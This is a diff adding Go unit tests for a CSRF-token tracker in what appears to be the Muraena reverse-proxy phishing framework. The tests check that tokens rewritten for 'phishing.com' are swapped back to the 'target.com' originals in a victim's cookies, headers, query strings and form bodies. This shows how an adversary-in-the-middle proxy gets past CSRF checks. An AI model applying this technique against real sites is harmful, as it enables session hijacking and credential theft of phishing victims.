@@ -0,0 +1,111 @@
+package proxy
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+func newTestCSRFTokens() *csrfTokens {
+	sess := &session.Session{Config: &session.Configuration{}}
+	sess.Config.Tracking.Enabled = true
+	sess.Config.Tracking.CSRF.Enabled = true
+	sess.Config.Tracking.CSRF.Cookies = []string{"csrftoken"}
+	sess.Config.Tracking.CSRF.Fields = []string{"csrfmiddlewaretoken", "X-CSRFToken"}
+	return newCSRFTokens(sess)
+}
+
+func TestCSRFTokens_Cookie(t *testing.T) {
+	c := newTestCSRFTokens()
+
+	// The token embeds the target origin, rewritten with the cookie
+	c.ObserveCookie("victim", "csrftoken=sig.target.com+a/b=; Path=/; Secure", "csrftoken=sig.phishing.com+a/b=; Path=/; Secure")
+	c.ObserveCookie("victim", "sessionid=sig.target.com; Path=/", "sessionid=sig.phishing.com; Path=/")
+	c.ObserveCookie("victim", "csrftoken=random; Path=/", "csrftoken=random; Path=/")
+
+	r := httptest.NewRequest(http.MethodPost, "https://phishing.com/login?next=/&token="+url.QueryEscape("sig.phishing.com+a/b="), nil)
+	r.Header.Set("Cookie", "sessionid=sig.phishing.com; csrftoken=sig.phishing.com+a/b=")
+	r.Header.Set("X-CSRFToken", "sig.phishing.com+a/b=")
+	c.Restore("victim", r)
+
+	if cookie := r.Header.Get("Cookie"); cookie != "sessionid=sig.phishing.com; csrftoken=sig.target.com+a/b=" {
+		t.Errorf("unexpected cookie %s", cookie)
+	}
+	if header := r.Header.Get("X-CSRFToken"); header != "sig.target.com+a/b=" {
+		t.Errorf("unexpected header %s", header)
+	}
+	if token := r.URL.Query().Get("token"); token != "sig.target.com+a/b=" {
+		t.Errorf("unexpected query token %s", token)
+	}
+
+	// The tokens are restored only for the victim they were issued to
+	other := httptest.NewRequest(http.MethodPost, "https://phishing.com/login", nil)
+	other.Header.Set("X-CSRFToken", "sig.phishing.com+a/b=")
+	c.Restore("other", other)
+	if header := other.Header.Get("X-CSRFToken"); header != "sig.phishing.com+a/b=" {
+		t.Errorf("unexpected header of another victim %s", header)
+	}
+
+	if stats := c.Stats(); stats["restored"].(uint64) != 3 || stats["victims"].(int) != 1 {
+		t.Errorf("unexpected stats %v", stats)
+	}
+}
+
+func TestCSRFTokens_Body(t *testing.T) {
+	c := newTestCSRFTokens()
+
+	page := `<form><input type="hidden" name="csrfmiddlewaretoken" value="%s"></form>` +
+		`<meta content="%s" name="X-CSRFToken"><script>var config = {"csrfmiddlewaretoken": "%s"};</script>`
+	original := strings.NewReplacer("%s", "target.com-1").Replace(page)
+	rewritten := strings.NewReplacer("%s", "phishing.com-1").Replace(page)
+
+	if tokens := c.tokens(original); len(tokens) != 3 {
+		t.Fatalf("expected 3 tokens, got %v", tokens)
+	}
+	c.ObserveBody("victim", original, rewritten)
+
+	body := c.RestoreBody("victim", []byte("username=john&csrfmiddlewaretoken=phishing.com-1"))
+	if string(body) != "username=john&csrfmiddlewaretoken=target.com-1" {
+		t.Errorf("unexpected body %s", body)
+	}
+
+	body = c.RestoreBody("victim", []byte(`{"csrfmiddlewaretoken":"unknown"}`))
+	if string(body) != `{"csrfmiddlewaretoken":"unknown"}` {
+		t.Errorf("unexpected body %s", body)
+	}
+
+	// The tokens are ignored when the rewrite changes their number
+	c.ObserveBody("mismatch", original, `<input name="csrfmiddlewaretoken" value="phishing.com-2">`)
+	if c.replacer("mismatch") != nil {
+		t.Error("expected no tokens")
+	}
+}
+
+func TestCSRFTokens_Bounded(t *testing.T) {
+	c := newTestCSRFTokens()
+	for i := 0; i <= csrfMaxTokens; i++ {
+		c.record("victim", "rewritten"+string(rune('A'+i)), "original"+string(rune('A'+i)))
+	}
+
+	if body := c.RestoreBody("victim", []byte("rewrittenA")); string(body) != "rewrittenA" {
+		t.Errorf("expected the oldest token to be dropped, got %s", body)
+	}
+	if body := c.RestoreBody("victim", []byte("rewrittenB")); string(body) != "originalB" {
+		t.Errorf("expected the token to be restored, got %s", body)
+	}
+}
+
+func TestCSRFTokens_Disabled(t *testing.T) {
+	var c *csrfTokens
+	c.ObserveCookie("victim", "csrftoken=a", "csrftoken=b")
+
+	r := httptest.NewRequest(http.MethodGet, "https://phishing.com/", nil)
+	c.Restore("victim", r)
+	if body := c.RestoreBody("victim", []byte("b")); string(body) != "b" {
+		t.Errorf("unexpected body %s", body)
+	}
+}